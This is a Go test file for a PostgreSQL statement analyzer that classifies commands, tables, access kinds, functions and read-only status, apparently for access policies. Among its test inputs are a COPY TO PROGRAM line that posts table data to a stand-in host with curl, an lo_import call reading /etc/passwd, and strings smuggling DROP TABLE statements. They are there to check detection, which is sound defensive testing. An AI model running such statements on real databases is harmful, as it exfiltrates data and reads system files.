package sqlinfo

import (
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"
)

// tb builds a Table; s is "schema.name" or "name".
func tb(s, access string) Table {
	if i := strings.LastIndexByte(s, '.'); i >= 0 {
		return Table{Schema: s[:i], Name: s[i+1:], Access: access}
	}
	return Table{Name: s, Access: access}
}

func sel(s string) Table { return tb(s, AccessSelect) }

type want struct {
	commands  []string
	tables    []Table
	functions []string
	readOnly  bool
}

func cmd(c ...string) []string { return c }
func fns(f ...string) []string { return f }
func tbls(t ...Table) []Table  { return t }

// analyzeTests are single statements with the facts they must yield. They
// also seed FuzzAnalyze.
var analyzeTests = []struct {
	name string
	sql  string
	want want
}{
	// Reading.
	{"pgbench select", "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
		want{cmd("SELECT"), tbls(sel("pgbench_accounts")), nil, true}},
	{"qualified with alias", "SELECT c.email FROM public.customers c WHERE c.id = $1",
		want{cmd("SELECT"), tbls(sel("public.customers")), nil, true}},
	{"quoted names keep case", `SELECT * FROM "Sales"."Orders", "lower"`,
		want{cmd("SELECT"), tbls(sel("Sales.Orders"), sel("lower")), nil, true}},
	{"three-way join", "SELECT o.id, c.name, p.title FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN shop.products p USING (product_id)",
		want{cmd("SELECT"), tbls(sel("orders"), sel("customers"), sel("shop.products")), nil, true}},
	{"sub-queries", "SELECT * FROM (SELECT * FROM a) x WHERE id IN (SELECT id FROM b) AND EXISTS (SELECT 1 FROM c WHERE c.id = x.id)",
		want{cmd("SELECT"), tbls(sel("a"), sel("b"), sel("c")), nil, true}},
	{"set operations", "SELECT id FROM a UNION ALL SELECT id FROM b EXCEPT SELECT id FROM c INTERSECT SELECT id FROM d",
		want{cmd("SELECT"), tbls(sel("a"), sel("b"), sel("c"), sel("d")), nil, true}},
	{"view is a relation", "SELECT * FROM active_users",
		want{cmd("SELECT"), tbls(sel("active_users")), nil, true}},
	{"table command", "TABLE t",
		want{cmd("SELECT"), tbls(sel("t")), nil, true}},
	{"values", "VALUES (1, 'a'), (2, 'b')",
		want{cmd("SELECT"), nil, nil, true}},
	{"lateral and table sample", "SELECT * FROM a TABLESAMPLE SYSTEM (10), LATERAL (SELECT * FROM b WHERE b.a = a.id) l",
		want{cmd("SELECT"), tbls(sel("a"), sel("b")), nil, true}},

	// Common table expressions.
	{"CTE name is not a table", "WITH recent AS (SELECT * FROM orders WHERE ts > now() - interval '1 day') SELECT count(*) FROM recent",
		want{cmd("SELECT"), tbls(sel("orders")), fns("now", "count"), true}},
	{"qualified name is not a CTE", "WITH t AS (SELECT 1) SELECT * FROM t, public.t",
		want{cmd("SELECT"), tbls(sel("public.t")), nil, true}},
	{"CTE scope ends with its query", "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x",
		want{cmd("SELECT"), tbls(sel("x")), nil, true}},
	{"non-recursive CTE sees only earlier names", "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b",
		want{cmd("SELECT"), tbls(sel("b")), nil, true}},
	{"recursive CTE", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r",
		want{cmd("SELECT"), nil, nil, true}},
	{"data-modifying CTE", "WITH d AS (DELETE FROM t WHERE done RETURNING *) SELECT * FROM d",
		want{cmd("SELECT", "DELETE"), tbls(tb("t", AccessDelete)), nil, false}},
	{"data-modifying CTE feeding an insert", "WITH moved AS (DELETE FROM queue WHERE id < 10 RETURNING *) INSERT INTO archive SELECT * FROM moved",
		want{cmd("INSERT", "DELETE"), tbls(tb("queue", AccessDelete), tb("archive", AccessInsert)), nil, false}},
	{"CTE in a DML statement", "WITH src AS (SELECT * FROM staging) UPDATE t SET x = src.x FROM src WHERE t.id = src.id",
		want{cmd("UPDATE"), tbls(sel("staging"), tb("t", AccessUpdate)), nil, false}},

	// Locking reads.
	{"for update locks the FROM tables", "SELECT * FROM a JOIN b ON a.id = b.id WHERE a.x IN (SELECT x FROM c) FOR UPDATE",
		want{cmd("SELECT"), tbls(sel("a"), sel("b"), tb("a", AccessLock), tb("b", AccessLock), sel("c")), nil, false}},
	{"for share of an alias", "SELECT * FROM a x JOIN b y ON true FOR SHARE OF y",
		want{cmd("SELECT"), tbls(sel("a"), sel("b"), tb("b", AccessLock)), nil, false}},
	{"for update of a sub-query locks everything", "SELECT * FROM (SELECT * FROM a) s JOIN b ON true FOR NO KEY UPDATE OF s",
		want{cmd("SELECT"), tbls(sel("a"), sel("b"), tb("a", AccessLock), tb("b", AccessLock)), nil, false}},
	{"select into", "SELECT * INTO new_t FROM t",
		want{cmd("SELECT INTO"), tbls(tb("new_t", AccessDDL), sel("t")), nil, false}},

	// Functions.
	{"pg_sleep", "SELECT pg_sleep(1)",
		want{cmd("SELECT"), nil, fns("pg_sleep"), false}},
	{"nextval", "SELECT nextval('seq')",
		want{cmd("SELECT"), nil, fns("nextval"), false}},
	{"qualified set_config", "SELECT pg_catalog.set_config('search_path', '', false)",
		want{cmd("SELECT"), nil, fns("pg_catalog.set_config"), false}},
	{"pure functions everywhere", "SELECT lower(name), count(*) FROM users WHERE upper(email) LIKE '%X' GROUP BY 1 HAVING max(id) > 0 ORDER BY length(name)",
		want{cmd("SELECT"), tbls(sel("users")), fns("lower", "count", "upper", "max", "length"), true}},
	{"pg_catalog qualified pure function", "SELECT pg_catalog.count(*) FROM t",
		want{cmd("SELECT"), tbls(sel("t")), fns("pg_catalog.count"), true}},
	{"other schema is not pure", "SELECT util.lower(x) FROM t",
		want{cmd("SELECT"), tbls(sel("t")), fns("util.lower"), false}},
	{"quoted mixed case is not pure", `SELECT "Lower"('x')`,
		want{cmd("SELECT"), nil, fns("lower"), false}},
	{"table functions", "SELECT * FROM generate_series(1, 3) g, unnest(ARRAY[1, 2]) u",
		want{cmd("SELECT"), nil, fns("generate_series", "unnest"), true}},
	{"impure table function", "SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)",
		want{cmd("SELECT"), nil, fns("dblink"), false}},
	{"functions SQL syntax calls", "SELECT EXTRACT(year FROM ts), SUBSTRING(s FROM 2), ts AT TIME ZONE 'UTC', TRIM(BOTH ' ' FROM s), POSITION('a' IN s) FROM t",
		want{cmd("SELECT"), tbls(sel("t")), fns("extract", "substring", "timezone", "btrim", "position"), true}},
	{"function in WHERE", "SELECT * FROM pg_stat_activity WHERE pid <> pg_backend_pid() AND pg_terminate_backend(pid)",
		want{cmd("SELECT"), tbls(sel("pg_stat_activity")), fns("pg_backend_pid", "pg_terminate_backend"), false}},
	{"window and filter", "SELECT row_number() OVER (PARTITION BY a ORDER BY b), sum(x) FILTER (WHERE x > 0) FROM t",
		want{cmd("SELECT"), tbls(sel("t")), fns("row_number", "sum"), true}},
	{"advisory lock", "SELECT pg_advisory_lock(42)",
		want{cmd("SELECT"), nil, fns("pg_advisory_lock"), false}},
	{"large object", "SELECT lo_import('/etc/passwd')",
		want{cmd("SELECT"), nil, fns("lo_import"), false}},
	{"psql describe", "SELECT c.relname, pg_catalog.pg_get_userbyid(c.relowner) FROM pg_catalog.pg_class c WHERE pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1",
		want{cmd("SELECT"), tbls(sel("pg_catalog.pg_class")), fns("pg_catalog.pg_get_userbyid", "pg_catalog.pg_table_is_visible"), true}},

	// Writing.
	{"insert values", "INSERT INTO t (a, b) VALUES (1, 2)",
		want{cmd("INSERT"), tbls(tb("t", AccessInsert)), nil, false}},
	{"insert select", "INSERT INTO archive SELECT * FROM orders WHERE ts < now()",
		want{cmd("INSERT"), tbls(tb("archive", AccessInsert), sel("orders")), fns("now"), false}},
	{"upsert", "INSERT INTO t (id, n) VALUES (1, 1) ON CONFLICT (id) DO UPDATE SET n = t.n + excluded.n",
		want{cmd("INSERT"), tbls(tb("t", AccessInsert), tb("t", AccessUpdate)), nil, false}},
	{"insert do nothing", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING",
		want{cmd("INSERT"), tbls(tb("t", AccessInsert)), nil, false}},
	{"pgbench update", "UPDATE pgbench_accounts SET abalance = abalance + -4233 WHERE aid = 37",
		want{cmd("UPDATE"), tbls(tb("pgbench_accounts", AccessUpdate)), nil, false}},
	{"update from", "UPDATE accounts a SET balance = balance - tr.amount FROM transfers tr WHERE a.id = tr.account_id",
		want{cmd("UPDATE"), tbls(tb("accounts", AccessUpdate), sel("transfers")), nil, false}},
	{"update with sub-query", "UPDATE t SET x = (SELECT max(x) FROM u) RETURNING id",
		want{cmd("UPDATE"), tbls(tb("t", AccessUpdate), sel("u")), fns("max"), false}},
	{"delete using", "DELETE FROM t USING u WHERE t.id = u.id RETURNING t.id",
		want{cmd("DELETE"), tbls(tb("t", AccessDelete), sel("u")), nil, false}},
	{"merge", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE WHEN MATCHED THEN UPDATE SET x = s.x WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.x)",
		want{cmd("MERGE"), tbls(tb("t", AccessDelete), tb("t", AccessUpdate), tb("t", AccessInsert), sel("s")), nil, false}},
	{"merge do nothing", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING",
		want{cmd("MERGE"), tbls(sel("t"), sel("s")), nil, false}},

	// COPY.
	{"copy from", "COPY t FROM STDIN",
		want{cmd("COPY"), tbls(tb("t", AccessCopyFrom)), nil, false}},
	{"copy to stdout", "COPY public.t (a, b) TO STDOUT WITH (FORMAT csv)",
		want{cmd("COPY"), tbls(tb("public.t", AccessCopyTo)), nil, true}},
	{"copy query", "COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT",
		want{cmd("COPY", "SELECT"), tbls(sel("t"), sel("u")), nil, true}},
	{"copy to file", "COPY t TO '/tmp/t.csv'",
		want{cmd("COPY"), tbls(tb("t", AccessCopyTo)), nil, false}},
	{"copy to program", "COPY t TO PROGRAM 'curl -d @- http://x'",
		want{cmd("COPY"), tbls(tb("t", AccessCopyTo)), nil, false}},
	{"copy a delete", "COPY (DELETE FROM t RETURNING *) TO STDOUT",
		want{cmd("COPY", "DELETE"), tbls(tb("t", AccessDelete)), nil, false}},

	// TRUNCATE, LOCK, maintenance.
	{"truncate", "TRUNCATE a, s.b RESTART IDENTITY",
		want{cmd("TRUNCATE TABLE"), tbls(tb("a", AccessTruncate), tb("s.b", AccessTruncate)), nil, false}},
	{"lock table", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
		want{cmd("LOCK TABLE"), tbls(tb("t", AccessLock)), nil, false}},
	{"vacuum", "VACUUM (ANALYZE) t, s.u",
		want{cmd("VACUUM"), tbls(tb("t", AccessMaintenance), tb("s.u", AccessMaintenance)), nil, false}},
	{"analyze", "ANALYZE t",
		want{cmd("ANALYZE"), tbls(tb("t", AccessMaintenance)), nil, false}},
	{"reindex", "REINDEX TABLE t",
		want{cmd("REINDEX"), tbls(tb("t", AccessMaintenance)), nil, false}},
	{"refresh", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
		want{cmd("REFRESH MATERIALIZED VIEW"), tbls(tb("mv", AccessMaintenance)), nil, false}},

	// DDL and DCL.
	{"create table", "CREATE TABLE t (id int PRIMARY KEY DEFAULT nextval('s'), p int REFERENCES parent (id), LIKE template)",
		want{cmd("CREATE TABLE"), tbls(tb("t", AccessDDL), tb("parent", AccessReference), tb("template", AccessReference)), fns("nextval"), false}},
	{"create partition", "CREATE TABLE c PARTITION OF p FOR VALUES IN (1)",
		want{cmd("CREATE TABLE"), tbls(tb("c", AccessDDL), tb("p", AccessDDL)), nil, false}},
	{"drop table", "DROP TABLE a, s.b CASCADE",
		want{cmd("DROP TABLE"), tbls(tb("a", AccessDDL), tb("s.b", AccessDDL)), nil, false}},
	{"drop index", "DROP INDEX CONCURRENTLY IF EXISTS s.i",
		want{cmd("DROP INDEX"), tbls(tb("s.i", AccessDDL)), nil, false}},
	{"drop trigger names its table", "DROP TRIGGER trg ON s.t",
		want{cmd("DROP TRIGGER"), tbls(tb("s.t", AccessDDL)), nil, false}},
	{"drop function", "DROP FUNCTION f(int)",
		want{cmd("DROP FUNCTION"), nil, nil, false}},
	{"alter table", "ALTER TABLE t ADD COLUMN x int",
		want{cmd("ALTER TABLE"), tbls(tb("t", AccessDDL)), nil, false}},
	{"alter table foreign key", "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (x) REFERENCES s.p (id)",
		want{cmd("ALTER TABLE"), tbls(tb("t", AccessDDL), tb("s.p", AccessReference)), nil, false}},
	{"rename", "ALTER TABLE t RENAME TO u",
		want{cmd("ALTER TABLE"), tbls(tb("t", AccessDDL)), nil, false}},
	{"rename column", "ALTER VIEW v RENAME COLUMN a TO b",
		want{cmd("ALTER VIEW"), tbls(tb("v", AccessDDL)), nil, false}},
	{"attach partition", "ALTER TABLE p ATTACH PARTITION c FOR VALUES IN (2)",
		want{cmd("ALTER TABLE"), tbls(tb("p", AccessDDL), tb("c", AccessDDL)), nil, false}},
	{"create index", "CREATE INDEX CONCURRENTLY ON t (lower(email))",
		want{cmd("CREATE INDEX"), tbls(tb("t", AccessDDL)), fns("lower"), false}},
	{"grant", "GRANT SELECT, INSERT ON t, s.u TO bob",
		want{cmd("GRANT"), tbls(tb("t", AccessDDL), tb("s.u", AccessDDL)), nil, false}},
	{"revoke", "REVOKE ALL ON t FROM bob",
		want{cmd("REVOKE"), tbls(tb("t", AccessDDL)), nil, false}},
	{"grant on schema", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob",
		want{cmd("GRANT"), nil, nil, false}},
	{"grant role", "GRANT admin TO bob",
		want{cmd("GRANT ROLE"), nil, nil, false}},
	{"comment on table", "COMMENT ON TABLE t IS 'x'",
		want{cmd("COMMENT"), tbls(tb("t", AccessDDL)), nil, false}},
	{"comment on column", "COMMENT ON COLUMN s.t.c IS 'x'",
		want{cmd("COMMENT"), tbls(tb("s.t", AccessDDL)), nil, false}},
	{"create view", "CREATE VIEW v AS SELECT * FROM t JOIN u USING (id) WHERE nextval('s') > 0",
		want{cmd("CREATE VIEW"), tbls(tb("v", AccessDDL), tb("t", AccessReference), tb("u", AccessReference)), fns("nextval"), false}},
	{"create materialized view", "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
		want{cmd("CREATE MATERIALIZED VIEW", "SELECT"), tbls(tb("mv", AccessDDL), sel("t")), nil, false}},
	{"create table as", "CREATE TABLE x AS SELECT * FROM y",
		want{cmd("CREATE TABLE AS", "SELECT"), tbls(tb("x", AccessDDL), sel("y")), nil, false}},
	{"create table as with no data", "CREATE TABLE x AS SELECT * FROM y WITH NO DATA",
		want{cmd("CREATE TABLE AS"), tbls(tb("x", AccessDDL), tb("y", AccessReference)), nil, false}},
	{"create rule", "CREATE RULE r AS ON INSERT TO t DO INSTEAD INSERT INTO u VALUES (new.x)",
		want{cmd("CREATE RULE"), tbls(tb("t", AccessDDL), tb("u", AccessReference)), nil, false}},
	{"create function with SQL body", "CREATE FUNCTION f() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM t; END",
		want{cmd("CREATE FUNCTION"), tbls(tb("t", AccessReference)), fns("count"), false}},
	{"create function with string body", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t RETURNING 1 $$",
		want{cmd("CREATE FUNCTION"), nil, nil, false}},
	{"create procedure", "CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'",
		want{cmd("CREATE PROCEDURE"), nil, nil, false}},
	{"create policy", "CREATE POLICY p ON t USING (owner = current_user AND EXISTS (SELECT 1 FROM acl))",
		want{cmd("CREATE POLICY"), tbls(tb("t", AccessDDL), tb("acl", AccessReference)), nil, false}},
	{"create trigger", "CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()",
		want{cmd("CREATE TRIGGER"), tbls(tb("t", AccessDDL)), nil, false}},
	{"create sequence", "CREATE SEQUENCE s.seq",
		want{cmd("CREATE SEQUENCE"), tbls(tb("s.seq", AccessDDL)), nil, false}},
	{"create schema", "CREATE SCHEMA app",
		want{cmd("CREATE SCHEMA"), nil, nil, false}},
	{"create role", "CREATE ROLE r LOGIN PASSWORD 'x'",
		want{cmd("CREATE ROLE"), nil, nil, false}},
	{"alter system", "ALTER SYSTEM SET work_mem = '64MB'",
		want{cmd("ALTER SYSTEM"), nil, nil, false}},
	{"create extension", "CREATE EXTENSION IF NOT EXISTS dblink",
		want{cmd("CREATE EXTENSION"), nil, nil, false}},

	// Sessions, transactions, wrappers.
	{"begin", "BEGIN ISOLATION LEVEL SERIALIZABLE", want{cmd("BEGIN"), nil, nil, true}},
	{"start transaction", "START TRANSACTION READ ONLY", want{cmd("START TRANSACTION"), nil, nil, true}},
	{"commit", "COMMIT", want{cmd("COMMIT"), nil, nil, true}},
	{"end", "END", want{cmd("COMMIT"), nil, nil, true}},
	{"rollback", "ROLLBACK", want{cmd("ROLLBACK"), nil, nil, true}},
	{"savepoint", "SAVEPOINT sp", want{cmd("SAVEPOINT"), nil, nil, true}},
	{"release", "RELEASE SAVEPOINT sp", want{cmd("RELEASE"), nil, nil, true}},
	{"rollback to", "ROLLBACK TO SAVEPOINT sp", want{cmd("ROLLBACK"), nil, nil, true}},
	{"prepare transaction", "PREPARE TRANSACTION 'tx'", want{cmd("PREPARE TRANSACTION"), nil, nil, false}},
	{"commit prepared", "COMMIT PREPARED 'tx'", want{cmd("COMMIT PREPARED"), nil, nil, false}},
	{"set", "SET search_path = app, public", want{cmd("SET"), nil, nil, false}},
	{"set local", "SET LOCAL statement_timeout = 0", want{cmd("SET"), nil, nil, false}},
	{"reset", "RESET ALL", want{cmd("RESET"), nil, nil, false}},
	{"show", "SHOW ALL", want{cmd("SHOW"), nil, nil, true}},
	{"explain", "EXPLAIN SELECT * FROM t", want{cmd("EXPLAIN", "SELECT"), tbls(sel("t")), nil, true}},
	{"explain analyze select", "EXPLAIN ANALYZE SELECT * FROM t", want{cmd("EXPLAIN", "SELECT"), tbls(sel("t")), nil, true}},
	{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM t",
		want{cmd("EXPLAIN", "DELETE"), tbls(tb("t", AccessDelete)), nil, false}},
	{"explain delete", "EXPLAIN DELETE FROM t",
		want{cmd("EXPLAIN", "DELETE"), tbls(tb("t", AccessDelete)), nil, true}},
	{"explain analyze false", "EXPLAIN (ANALYZE false, COSTS off) DELETE FROM t",
		want{cmd("EXPLAIN", "DELETE"), tbls(tb("t", AccessDelete)), nil, true}},
	{"explain analyze on", "EXPLAIN (ANALYZE on, BUFFERS) UPDATE t SET x = 1",
		want{cmd("EXPLAIN", "UPDATE"), tbls(tb("t", AccessUpdate)), nil, false}},
	{"explain impure", "EXPLAIN SELECT nextval('s')",
		want{cmd("EXPLAIN", "SELECT"), nil, fns("nextval"), false}},
	{"do", "DO $$ BEGIN DELETE FROM t; END $$", want{cmd("DO"), nil, nil, false}},
	{"call", "CALL app.refresh(1, now())", want{cmd("CALL"), nil, fns("app.refresh", "now"), false}},
	{"listen", "LISTEN jobs", want{cmd("LISTEN"), nil, nil, false}},
	{"notify", "NOTIFY jobs, 'x'", want{cmd("NOTIFY"), nil, nil, false}},
	{"unlisten", "UNLISTEN *", want{cmd("UNLISTEN"), nil, nil, false}},
	{"prepare select", "PREPARE q(int) AS SELECT * FROM t WHERE id = $1",
		want{cmd("PREPARE", "SELECT"), tbls(sel("t")), nil, true}},
	{"prepare update", "PREPARE q AS UPDATE t SET x = 1",
		want{cmd("PREPARE", "UPDATE"), tbls(tb("t", AccessUpdate)), nil, false}},
	{"execute", "EXECUTE q(1)", want{cmd("EXECUTE"), nil, nil, false}},
	{"deallocate", "DEALLOCATE q", want{cmd("DEALLOCATE"), nil, nil, true}},
	{"deallocate all", "DEALLOCATE ALL", want{cmd("DEALLOCATE ALL"), nil, nil, true}},
	{"declare cursor", "DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM t",
		want{cmd("DECLARE CURSOR", "SELECT"), tbls(sel("t")), nil, true}},
	{"declare cursor for update", "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE",
		want{cmd("DECLARE CURSOR", "SELECT"), tbls(sel("t"), tb("t", AccessLock)), nil, false}},
	{"fetch", "FETCH FORWARD 100 FROM c", want{cmd("FETCH"), nil, nil, true}},
	{"move", "MOVE LAST IN c", want{cmd("MOVE"), nil, nil, true}},
	{"close", "CLOSE c", want{cmd("CLOSE CURSOR"), nil, nil, true}},
	{"close all", "CLOSE ALL", want{cmd("CLOSE CURSOR ALL"), nil, nil, true}},
	{"discard", "DISCARD ALL", want{cmd("DISCARD ALL"), nil, nil, false}},
	{"checkpoint", "CHECKPOINT", want{cmd("CHECKPOINT"), nil, nil, false}},

	// Comments and quoting.
	{"comments", "/* hint: (((( */ SELECT 1 FROM t -- )))) trailing",
		want{cmd("SELECT"), tbls(sel("t")), nil, true}},
	{"dollar quotes hide SQL", "SELECT $tag$ ; DROP TABLE x; ( $tag$ FROM t",
		want{cmd("SELECT"), tbls(sel("t")), nil, true}},
	{"string hides SQL", "SELECT 'it''s; DROP TABLE x (', E'\\'; DELETE FROM y' FROM t",
		want{cmd("SELECT"), tbls(sel("t")), nil, true}},
}

func TestAnalyze(t *testing.T) {
	for _, tt := range analyzeTests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := AnalyzeOne(tt.sql)
			if err != nil {
				t.Fatalf("AnalyzeOne(%q): %v", tt.sql, err)
			}
			if got.SQL != tt.sql {
				t.Errorf("SQL = %q, want %q", got.SQL, tt.sql)
			}
			if !reflect.DeepEqual(got.Commands, tt.want.commands) {
				t.Errorf("Commands = %q, want %q", got.Commands, tt.want.commands)
			}
			wantTables := tt.want.tables
			if wantTables == nil {
				wantTables = []Table{}
			}
			if !reflect.DeepEqual(got.Tables, wantTables) {
				t.Errorf("Tables = %v, want %v", got.Tables, wantTables)
			}
			wantFns := tt.want.functions
			if wantFns == nil {
				wantFns = []string{}
			}
			if !reflect.DeepEqual(got.Functions, wantFns) {
				t.Errorf("Functions = %q, want %q", got.Functions, wantFns)
			}
			if got.ReadOnly != tt.want.readOnly {
				t.Errorf("ReadOnly = %v, want %v", got.ReadOnly, tt.want.readOnly)
			}
			fp, err := pg_query.Fingerprint(tt.sql)
			if err != nil || got.Fingerprint != fp {
				t.Errorf("Fingerprint = %q, want %q (%v)", got.Fingerprint, fp, err)
			}
		})
	}
}

func TestAnalyzeSplitsStatements(t *testing.T) {
	sql := "SELECT 1;  INSERT INTO t VALUES ('a;b') ;\n/* c; */ DELETE FROM u -- bye;\n; ;SELECT 'é' FROM \"ü\";SELECT $$;$$"
	got, err := Analyze(sql)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"SELECT 1",
		"INSERT INTO t VALUES ('a;b')",
		"/* c; */ DELETE FROM u -- bye;",
		`SELECT 'é' FROM "ü"`,
		"SELECT $$;$$",
	}
	var texts []string
	for _, st := range got {
		texts = append(texts, st.SQL)
		fp, err := pg_query.Fingerprint(st.SQL)
		if err != nil || st.Fingerprint != fp {
			t.Errorf("%q: Fingerprint = %q, want %q (%v)", st.SQL, st.Fingerprint, fp, err)
		}
	}
	if !reflect.DeepEqual(texts, want) {
		t.Fatalf("statements =\n%q\nwant\n%q", texts, want)
	}
	if got[2].Commands[0] != "DELETE" || got[2].Tables[0] != tb("u", AccessDelete) {
		t.Errorf("third statement = %+v", got[2])
	}
	if got[3].Tables[0] != sel("ü") {
		t.Errorf("fourth statement = %+v", got[3])
	}
}

func TestAnalyzeEmpty(t *testing.T) {
	for _, sql := range []string{"", "  ", ";", " ; ;", "-- nothing", "/* nothing */"} {
		got, err := Analyze(sql)
		if err != nil || len(got) != 0 {
			t.Errorf("Analyze(%q) = %v, %v; want no statements", sql, got, err)
		}
		if _, err := AnalyzeOne(sql); !errors.Is(err, ErrEmpty) {
			t.Errorf("AnalyzeOne(%q) error = %v, want ErrEmpty", sql, err)
		}
	}
}

func TestAnalyzeOneRefusesMultiple(t *testing.T) {
	_, err := AnalyzeOne("SELECT 1; SELECT 2")
	if !errors.Is(err, ErrMultiple) {
		t.Fatalf("error = %v, want ErrMultiple", err)
	}
}

func TestFingerprintIgnoresConstants(t *testing.T) {
	a, err := AnalyzeOne("SELECT * FROM t WHERE id = 1 AND name = 'x'")
	if err != nil {
		t.Fatal(err)
	}
	b, err := AnalyzeOne("select *  from t where id = 2 and name = 'y' -- other")
	if err != nil {
		t.Fatal(err)
	}
	c, err := AnalyzeOne("SELECT * FROM u WHERE id = 1 AND name = 'x'")
	if err != nil {
		t.Fatal(err)
	}
	if a.Fingerprint != b.Fingerprint || a.Fingerprint == c.Fingerprint {
		t.Errorf("fingerprints %s %s %s: want first two equal, third different", a.Fingerprint, b.Fingerprint, c.Fingerprint)
	}
}

func TestSyntaxError(t *testing.T) {
	for _, tt := range []struct {
		sql      string
		position int
	}{
		{"SELECT * FORM t", 10},
		{"SELECT 'é' FROM WHERE", 17},         // characters, not bytes
		{"SELECT 1; SELECT * FROM WHERE", 25}, // the whole text is refused
		{"SELECT 'unterminated", 8},
		{"SELECT 1\x00; DROP TABLE t", 9}, // a NUL would end the parser's C string
	} {
		_, err := Analyze(tt.sql)
		if !errors.Is(err, ErrSyntax) {
			t.Errorf("Analyze(%q) error = %v, want ErrSyntax", tt.sql, err)
			continue
		}
		var se *SyntaxError
		if !errors.As(err, &se) || se.Position != tt.position || se.Message == "" {
			t.Errorf("Analyze(%q) error = %#v, want position %d", tt.sql, se, tt.position)
		}
	}
}

func TestInvalidUTF8(t *testing.T) {
	_, err := Analyze("SELECT 'caf\xe9' FROM t")
	if !errors.Is(err, ErrEncoding) || !strings.Contains(err.Error(), "0xe9 at offset 11") {
		t.Errorf("error = %v, want ErrEncoding naming byte 0xe9 at offset 11", err)
	}
}

func TestTooLarge(t *testing.T) {
	big := "SELECT '" + strings.Repeat("x", DefaultMaxBytes) + "'"
	if _, err := Analyze(big); !errors.Is(err, ErrTooLarge) {
		t.Errorf("default limit: error = %v, want ErrTooLarge", err)
	}
	a := NewAnalyzer(Limits{MaxBytes: 16}, 8)
	if _, err := a.Analyze("SELECT 1 FROM t"); err != nil {
		t.Errorf("15 bytes under a 16-byte limit: %v", err)
	}
	if _, err := a.Analyze("SELECT 123 FROM t"); !errors.Is(err, ErrTooLarge) {
		t.Errorf("17 bytes: error = %v, want ErrTooLarge", err)
	}
}

func TestTooDeep(t *testing.T) {
	huge := NewAnalyzer(Limits{MaxBytes: 64 << 20}, 0) // so that depth, not size, is what refuses
	for kind, build := range nested {
		for _, n := range []int{DefaultMaxDepth + 2, 100_000} {
			if _, err := huge.Analyze(build(n)); !errors.Is(err, ErrTooDeep) {
				t.Errorf("%s nested %d deep: error = %v, want ErrTooDeep", kind, n, err)
			}
		}
		if _, err := Analyze(build(DefaultMaxDepth - 2)); errors.Is(err, ErrTooDeep) {
			t.Errorf("%s nested %d deep: refused as too deep", kind, DefaultMaxDepth-2)
		}
	}
	a := NewAnalyzer(Limits{MaxDepth: 3}, 0)
	if _, err := a.Analyze("SELECT ((1))"); err != nil {
		t.Errorf("depth 2 under 3: %v", err)
	}
	if _, err := a.Analyze("SELECT ((((1))))"); !errors.Is(err, ErrTooDeep) {
		t.Errorf("depth 4 over 3: error = %v, want ErrTooDeep", err)
	}
}

// The JSON is the policy input's "request" object (less "kind"): its names
// are a contract with policies.
func TestStatementJSON(t *testing.T) {
	st, err := AnalyzeOne("SELECT lower(email) FROM public.customers")
	if err != nil {
		t.Fatal(err)
	}
	got, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"sql":"SELECT lower(email) FROM public.customers","fingerprint":"` + st.Fingerprint + `",` +
		`"commands":["SELECT"],"tables":[{"schema":"public","name":"customers","access":"select"}],` +
		`"functions":["lower"],"read_only":true}`
	if string(got) != want {
		t.Errorf("JSON =\n%s\nwant\n%s", got, want)
	}
}

func TestCommandTagsNameRealNodes(t *testing.T) {
	for name := range fixedTags {
		if pg_query.File_pg_query_proto.Messages().ByName(name) == nil {
			t.Errorf("fixedTags names %s, which is no parse tree node", name)
		}
	}
}
